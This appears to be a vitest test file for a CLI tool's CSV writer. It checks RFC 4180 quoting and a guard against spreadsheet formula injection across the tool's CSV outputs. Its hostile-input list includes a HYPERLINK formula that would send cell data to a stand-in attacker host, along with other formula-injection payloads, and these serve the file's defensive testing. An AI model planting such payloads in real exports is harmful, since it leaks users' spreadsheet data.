/**
 * The CSV writer (RFC 4180 plus the formula guard), and every CSV cop prints, parsed back with
 * csv-parse: hostile names come back in the same rows and columns, and no cell begins with
 * `= + - @`, tab or CR unless it is a number the tool wrote (issue #22 row 6).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvDocument, csvText, figure } from '../../src/output/csv.js';
import { runInProcess } from '../helpers/in-process.js';
import { AS_OF, copyOrganisation } from '../helpers/org-copy.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(A1:A9)', '+1', '-1+2', '\t=1', '\r=1', 'a,b', '"q"', 'line\nbreak', 'cr\r\nlf'];
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
/** What a guarded text cell reads back as: the text, with a `'` in front when it could start a formula. */
const guarded = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);
/**
 * What a guarded cell reads back as once printed: the output guard on stdout (src/core/terminal.ts)
 * shows a lone carriage return, which a terminal would obey, as the visible `\u000D`.
 */
const printed = (text: string) => guarded(text).replace(/\r(?!\n)/g, '\\u000D');
const rowsOf = (csv: string) => parse(csv, { relax_column_count: false }) as string[][];

function unsafeCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
}

describe('csvDocument', () => {
  it('reads back every hostile text in its own row and column, guarded, and leaves numbers and figures bare', () => {
    const csv = csvDocument(
      ['text', 'number', 'figure', 'empty'],
      HOSTILE.map((text) => [text, -3, figure(-4, 2), null]),
    );
    const rows = rowsOf(csv);
    expect(rows).toEqual([['text', 'number', 'figure', 'empty'], ...HOSTILE.map((text) => [guarded(text), '-3', '-4.00', ''])]);
    expect(unsafeCells(rows)).toEqual([]);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('writes no figure for a value that is null or not finite', () => {
    expect(figure(null, 2)).toBeNull();
    expect(figure(Infinity, 2)).toBeNull();
    expect(rowsOf(csvDocument(['a', 'b'], [[figure(Number.NaN, 1), Number.POSITIVE_INFINITY]]))).toEqual([['a', 'b'], ['', '']]);
  });

  it('quotes text with a comma, a quote or a line break, and guards text starting a formula', () => {
    expect(csvText('aws')).toBe('aws');
    expect(csvText('Platform, Engineering')).toBe('"Platform, Engineering"');
    expect(csvText('-x')).toBe(`"'-x"`);
    expect(csvDocument(['a', 'b'], [['-x', figure(-4, 2)]])).toBe(`a,b\r\n"'-x",-4.00\r\n`);
  });
});

describe('every CSV cop prints, on an organisation with hostile names', () => {
  let plain: string;
  let hostile: string;
  const cops = ['aws', 'data-engineering', 'distributed-ledgers', 'mobile', 'platform-engineering', 'quality-engineering', 'security'];
  const nameOf = (cop: string) => HOSTILE[cops.indexOf(cop)]!;
  const costCentreOf = (cop: string) => HOSTILE[(cops.indexOf(cop) + 3) % HOSTILE.length]!;

  beforeAll(() => {
    plain = copyOrganisation();
    hostile = copyOrganisation();
    for (const cop of cops) {
      const file = join(hostile, 'cops', cop, 'charter.yaml');
      const text = readFileSync(file, 'utf8').replace(/^name: .*$/m, `name: ${JSON.stringify(nameOf(cop))}\ncost_centre: ${JSON.stringify(costCentreOf(cop))}`);
      writeFileSync(file, text);
    }
  });

  const outputs: [string, string[], string][] = [
    ['cop ls --format csv', ['ls', '--format', 'csv'], 'name'],
    ['cop report --format csv', ['report', '--format', 'csv', '--year', '2026'], 'name'],
    ['cop report --format finance-csv', ['report', '--format', 'finance-csv', '--year', '2026'], 'name'],
  ];

  it.each(outputs)('%s: the same rows and columns, the names read back guarded, no cell starts a formula', async (_title, args, nameColumn) => {
    const run = async (root: string) => {
      const result = await runInProcess([...args, '--root', root, '--as-of', AS_OF], root);
      expect(result.stderr).toBe('');
      expect(result.status).toBe(0);
      return rowsOf(result.stdout);
    };
    const expected = await run(plain);
    const actual = await run(hostile);
    expect(actual.length).toBe(expected.length);
    expect(actual.map((row) => row.length)).toEqual(expected.map((row) => row.length));
    const header = actual[0]!;
    expect(header).toEqual(expected[0]);
    const id = header.indexOf(header.includes('id') ? 'id' : 'cop');
    const name = header.indexOf(nameColumn);
    const costCentre = header.indexOf('cost_centre');
    for (const [i, row] of actual.slice(1).entries()) {
      expect(row[id]).toBe(expected[i + 1]![id]);
      expect(row[name]).toBe(printed(nameOf(row[id]!)));
      if (costCentre >= 0) expect(row[costCentre]).toBe(printed(costCentreOf(row[id]!)));
      // Every other column is what the plain organisation gives.
      expect(row.filter((_, column) => column !== name && column !== costCentre)).toEqual(expected[i + 1]!.filter((_, column) => column !== name && column !== costCentre));
    }
    expect(unsafeCells(actual)).toEqual([]);
  });
});
